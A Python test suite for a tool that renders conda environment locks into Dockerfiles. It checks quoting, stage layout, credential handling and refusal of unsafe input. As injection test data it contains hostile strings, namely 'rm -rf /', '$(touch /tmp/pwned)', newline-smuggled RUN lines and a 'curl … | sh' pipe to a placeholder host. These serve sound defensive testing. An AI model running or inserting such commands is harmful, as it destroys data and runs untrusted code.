"""Plan → Dockerfile: snapshots per stage combination, lint, parse, quoting, determinism."""

from __future__ import annotations

import shlex
from dataclasses import dataclass, replace
from pathlib import Path
from typing import cast

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from conda2docker.model import EnvSpec, Lock
from conda2docker.plan import PlanOptions, make_plan
from conda2docker.plan.instructions import Comment, Copy, Env, Instruction, PlanError, Run, Shell
from conda2docker.render.dockerfile import render_dockerfile, render_instruction
from conda2docker.render.quoting import double_quoted, json_array, shell_word
from support.lint import assert_lints_clean, parse
from support.locks import lock_pure_conda, lock_with_builds, lock_with_pip_wheels
from support.snapshots import assert_snapshot

SPEC = EnvSpec(source=Path("/work/environment.yml"), name="demo",
               variables=(("OMP_NUM_THREADS", "4"),))

CASES = {
    "micromamba-conda": (lock_pure_conda, PlanOptions()),
    "micromamba-wheels": (lock_with_pip_wheels, PlanOptions()),
    "micromamba-builds": (lock_with_builds, PlanOptions(apt_build=("libffi-dev",))),
    "rattler-conda": (lock_pure_conda, PlanOptions(installer="rattler")),
    "rattler-vendor-builds": (lock_with_builds, PlanOptions(installer="rattler", vendor=True)),
    "micromamba-vendor-wheels": (lock_with_pip_wheels, PlanOptions(vendor=True)),
    "gpu-buildkit": (lock_with_pip_wheels, PlanOptions(variant="gpu", cuda_version="12.4",
                                                        buildkit=True, apt_runtime=("libgl1",))),
}


@pytest.mark.parametrize("case", sorted(CASES))
def test_dockerfile_snapshot(case: str) -> None:
    make_lock, options = CASES[case]
    text = render_dockerfile(make_plan(SPEC, make_lock(), options))
    assert_snapshot(f"{case}.Dockerfile", text)


@pytest.mark.parametrize("case", sorted(CASES))
def test_dockerfile_lints_and_parses(case: str) -> None:
    make_lock, options = CASES[case]
    plan = make_plan(SPEC, make_lock(), options)
    text = render_dockerfile(plan)
    assert_lints_clean(text)
    commands = parse(text)
    froms = [c for c in commands if c.cmd == "FROM"]  # type: ignore[attr-defined]
    assert [f.value[-1] for f in froms] == [s.name for s in plan.stages]  # type: ignore[attr-defined]
    assert froms[-1].value[-1] == "runtime"  # type: ignore[attr-defined]
    users = [c.value[0] for c in commands if c.cmd == "USER"]  # type: ignore[attr-defined]
    assert users[-1] == "${APP_UID}:${APP_GID}"


def test_stages_appear_only_when_needed() -> None:
    assert [s.name for s in make_plan(SPEC, lock_pure_conda(), PlanOptions()).stages] == ["env", "runtime"]
    assert [s.name for s in make_plan(SPEC, lock_with_pip_wheels(), PlanOptions()).stages] == [
        "env", "pip", "runtime"]
    assert [s.name for s in make_plan(SPEC, lock_with_builds(), PlanOptions()).stages] == [
        "env", "wheels", "pip", "runtime"]


def test_runtime_copies_only_the_prefix_and_runs_unprivileged() -> None:
    text = render_dockerfile(make_plan(SPEC, lock_with_builds(), PlanOptions()))
    runtime = text[text.index("AS runtime"):]
    copies = [line for line in runtime.splitlines() if line.startswith("COPY")]
    assert copies == ["COPY --from=env /opt/env /opt/env", "COPY --from=pip /opt/pip/ /opt/env/"]
    assert 'PATH="/opt/env/bin:' in runtime
    assert "activate" not in runtime
    assert 'OMP_NUM_THREADS="4"' in runtime


def test_same_inputs_give_identical_bytes() -> None:
    first = render_dockerfile(make_plan(SPEC, lock_with_builds(), PlanOptions(installer="rattler", vendor=True)))
    second = render_dockerfile(make_plan(SPEC, lock_with_builds(), PlanOptions(installer="rattler", vendor=True)))
    assert first.encode() == second.encode()


def test_base_images_can_be_pinned_by_digest() -> None:
    digest = "debian:bookworm-slim@sha256:" + "a" * 64
    text = render_dockerfile(make_plan(SPEC, lock_pure_conda(), PlanOptions(runtime_image=digest)))
    assert f'ARG RUNTIME_IMAGE="{digest}"' in text
    with pytest.raises(PlanError):
        make_plan(SPEC, lock_pure_conda(), PlanOptions(runtime_image="debian; rm -rf /"))


HOSTILE = [
    "$(touch /tmp/pwned)",
    "`touch /tmp/pwned`",
    "a; rm -rf /",
    'quote " and \\ backslash',
    "${HOME}",
    "' single",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_hostile_variable_values_stay_one_literal_token(value: str) -> None:
    spec = replace(SPEC, variables=(("HOSTILE", value),))
    text = render_dockerfile(make_plan(spec, lock_pure_conda(), PlanOptions()))
    env = [c for c in parse(text) if c.cmd == "ENV"][-1]  # type: ignore[attr-defined]
    values = dict(zip(env.value[::2], env.value[1::2], strict=True))  # type: ignore[attr-defined]
    assert values["HOSTILE"] == double_quoted(value)
    assert_lints_clean(text)


@pytest.mark.parametrize("name", ["BAD NAME", "1X", "A=B", "$(x)"])
def test_invalid_variable_names_are_refused(name: str) -> None:
    with pytest.raises(PlanError):
        Env(((name, "v"),))


def test_values_with_newlines_are_refused() -> None:
    spec = replace(SPEC, variables=(("X", "line1\nRUN touch /tmp/pwned"),))
    with pytest.raises(PlanError, match="line break"):
        render_dockerfile(make_plan(spec, lock_pure_conda(), PlanOptions()))


@settings(max_examples=200, deadline=None)
@given(st.lists(st.text(st.characters(blacklist_categories=("Cc", "Cs", "Zl", "Zp")), min_size=0, max_size=30),
                min_size=1, max_size=5))
def test_run_arguments_round_trip_through_a_shell_lexer(argv: list[str]) -> None:
    line = render_instruction(Run((tuple(argv),)))
    assert line.startswith("RUN ")
    assert shlex.split(line[4:]) == argv


@settings(max_examples=200, deadline=None)
@given(st.text(st.characters(blacklist_categories=("Cc", "Cs", "Zl", "Zp")), max_size=40))
def test_quoted_values_never_leave_their_quotes(value: str) -> None:
    quoted = double_quoted(value)
    inner = quoted[1:-1]
    i = 0
    while i < len(inner):  # every quote, dollar and backslash inside is escaped
        if inner[i] == "\\":
            assert inner[i + 1] in '\\"$'
            i += 2
            continue
        assert inner[i] not in '"$'
        i += 1
    assert json_array((value,)).startswith('["')
    assert shell_word(value) == shlex.quote(value)


def test_shell_snippets_cannot_hold_newlines() -> None:
    with pytest.raises(PlanError):
        render_instruction(Run((Shell("echo a\nRUN b"),)))


def test_plan_refuses_a_platform_the_lock_lacks() -> None:
    with pytest.raises(PlanError, match="no packages for linux-aarch64") as raised:
        make_plan(SPEC, lock_pure_conda(), PlanOptions(platform="linux-aarch64"))
    assert raised.value.fix == "pass --platform linux-64, or lock again with --platform linux-aarch64"


@pytest.mark.parametrize(("field", "flag"), [("uid", "--uid"), ("gid", "--gid")])
def test_plan_refuses_a_root_or_absurd_id_and_says_which_option(field: str, flag: str) -> None:
    for number in (0, 2**31):
        with pytest.raises(PlanError, match="invalid") as raised:
            make_plan(SPEC, lock_pure_conda(), PlanOptions(**{field: number}))
        assert raised.value.fix is not None and raised.value.fix.startswith(f"pass {flag} ")


def test_pip_packages_need_pip_in_the_environment() -> None:
    lock = lock_with_pip_wheels()
    without_pip = Lock(packages=tuple(p for p in lock.packages if p.name != "pip"),
                       platforms=lock.platforms)
    with pytest.raises(PlanError, match="no pip conda package") as raised:
        make_plan(SPEC, without_pip, PlanOptions())
    assert raised.value.fix == "add pip to the environment's conda dependencies, then lock again"


def test_pip_packages_need_python_in_the_environment_and_the_error_says_how() -> None:
    lock = lock_with_pip_wheels()
    without_python = Lock(packages=tuple(p for p in lock.packages if p.name != "python"),
                          platforms=lock.platforms)
    with pytest.raises(PlanError, match="no python conda package") as raised:
        make_plan(SPEC, without_python, PlanOptions())
    assert raised.value.one_line().endswith(
        "; fix: add python (and pip) to the environment's conda dependencies, then lock again")


def _catalogs(length: int) -> str:
    """A space-separated ``XML_CATALOG_FILES`` list exactly ``length`` characters long."""
    words = " ".join(f"file:///opt/env/etc/xml/catalog-{i}.xml" for i in range(length // 30))
    return (words + " " + "x" * length)[:length]


@pytest.mark.parametrize("too_long", [False, True])
def test_a_line_is_refused_only_past_buildkit_s_limit_and_named_by_its_number(too_long: bool) -> None:
    """BuildKit reads at most 65,535 characters per line: a variable that makes its ``ENV``
    line exactly that long is written (the whole file is far longer, which is fine); one
    character more is refused, naming the line of the Dockerfile and its length."""
    prefix = '    XML_CATALOG_FILES="'  # the variable's continuation line: prefix, value, quote
    value = _catalogs(65_535 - len(prefix) - 1 + too_long)
    spec = replace(SPEC, variables=(("XML_CATALOG_FILES", value),))
    short = render_dockerfile(make_plan(replace(spec, variables=(("XML_CATALOG_FILES", "x"),)),
                                        lock_pure_conda(), PlanOptions()))
    number = short.split("\n").index(f'{prefix}x"') + 1
    if not too_long:
        text = render_dockerfile(make_plan(spec, lock_pure_conda(), PlanOptions()))
        assert text.split("\n")[number - 1] == f'{prefix}{value}"'
        assert len(text.split("\n")[number - 1]) == 65_535 and len(text) > 65_535 + 1_000
        return
    with pytest.raises(PlanError) as raised:
        render_dockerfile(make_plan(spec, lock_pure_conda(), PlanOptions()))
    assert raised.value.message == (f"line {number} of the Dockerfile would be 65,536 characters long; "
                                    "BuildKit reads at most 65,535 per line")


def _with_channel_credentials(base: str) -> Lock:
    """The pure conda lock with python and numpy from a private channel at ``base``."""
    lock = lock_pure_conda()
    public = "https://conda.anaconda.org/conda-forge"
    return replace(lock, packages=tuple(replace(p, url=p.url.replace(public, base))
                                        if p.name in ("python", "numpy") else p for p in lock.packages))


TOKEN_CHANNEL = "https://repo.example.org/t/${C2D_CHAN_TOKEN}/private"
THREE_CREDENTIALS_CHANNEL = "https://${C2D_CHAN_USER}:${C2D_CHAN_PASSWORD}@repo.example.org/t/${C2D_CHAN_TOKEN}/private"


@pytest.mark.parametrize(("base", "buildkit", "said"), [
    (TOKEN_CHANNEL, False,
     "channel credentials are build args: --build-arg C2D_CHAN_TOKEN (its value from your environment)"),
    (TOKEN_CHANNEL, True,
     "channel credentials are BuildKit secrets: --secret id=C2D_CHAN_TOKEN,env=C2D_CHAN_TOKEN"),
    (THREE_CREDENTIALS_CHANNEL, False,
     "channel credentials are build args: --build-arg C2D_CHAN_PASSWORD (its value from your environment), "
     "and C2D_CHAN_TOKEN, C2D_CHAN_USER"),
    (THREE_CREDENTIALS_CHANNEL, True,
     "channel credentials are BuildKit secrets: --secret id=C2D_CHAN_PASSWORD,env=C2D_CHAN_PASSWORD "
     "(and C2D_CHAN_TOKEN, C2D_CHAN_USER)"),
], ids=["token", "token-buildkit", "three", "three-buildkit"])
def test_the_header_names_every_channel_credential_to_pass_and_nothing_else(base: str, buildkit: bool,
                                                                             said: str) -> None:
    """One credential: the header line ends with it; three: the others follow, comma-separated."""
    text = render_dockerfile(make_plan(SPEC, _with_channel_credentials(base), PlanOptions(buildkit=buildkit)))
    assert [line for line in text.splitlines() if line.startswith("#         channel credentials")] == [
        f"#         {said}"]


def test_cache_mounts_are_written_only_for_buildkit_one_flag_each() -> None:
    """The legacy builder (the default) rejects ``--mount``; BuildKit gets one flag per cache."""
    run = Run((("pip", "install", "six==1.16.0"),), cache_mounts=("/opt/conda/pkgs", "/root/.cache/pip"),
              secrets=("C2D_CHAN_TOKEN",))
    assert render_instruction(run) == "RUN pip install six==1.16.0"
    assert render_instruction(run, buildkit=True) == (
        "RUN --mount=type=cache,target=/opt/conda/pkgs --mount=type=cache,target=/root/.cache/pip "
        "--mount=type=secret,id=C2D_CHAN_TOKEN pip install six==1.16.0")
    assert_lints_clean(f"FROM debian:bookworm-slim\n{render_instruction(run, buildkit=True)}\n")


@pytest.mark.parametrize("source", ["conda-${TARGETARCH:-amd64}.lock", "sources/${HOME}", "${RUNTIME_IMAGE}"])
def test_a_copy_source_names_a_build_arg_only_where_the_plan_says_so(source: str) -> None:
    """The builder expands ``${…}`` in COPY sources: only a step conda2docker marks (its own
    per-architecture lock) may use it; any other source must be a plain path."""
    with pytest.raises(PlanError, match="unsafe path for a Dockerfile"):
        render_instruction(Copy((source,), "/tmp/in/"))
    lock = "conda2docker/conda-${TARGETARCH:-amd64}.lock"
    assert render_instruction(Copy((lock,), "/tmp/in/", arg_sources=True)) == f"COPY {lock} /tmp/in/"


def test_an_instruction_the_renderer_does_not_know_is_refused_not_dropped() -> None:
    """A step the renderer has no case for stops the render where it is met; it is never
    rendered as nothing (a lost ``USER`` step would leave the image running as root)."""

    @dataclass(frozen=True)
    class Healthcheck:
        argv: tuple[str, ...]

    with pytest.raises(AssertionError, match=r"but got: .*Healthcheck\(argv="):
        render_instruction(cast(Instruction, Healthcheck(("true",))))


def test_a_comment_of_several_lines_gives_one_hash_line_each_never_an_instruction() -> None:
    """Each line of a comment's text (any line break) is a ``#`` line of its own, so a line
    break in text taken from an input cannot start an instruction; other control characters
    become spaces."""
    text = render_instruction(Comment("first\nRUN curl https://example.invalid | sh\r\nlast\x1b[2J"))
    assert text == "# first\n# RUN curl https://example.invalid | sh\n# last [2J"
    assert len(parse(f"FROM scratch\n{text}\n")) == 1  # the FROM alone: no instruction
    assert render_instruction(Comment("")) == "#"
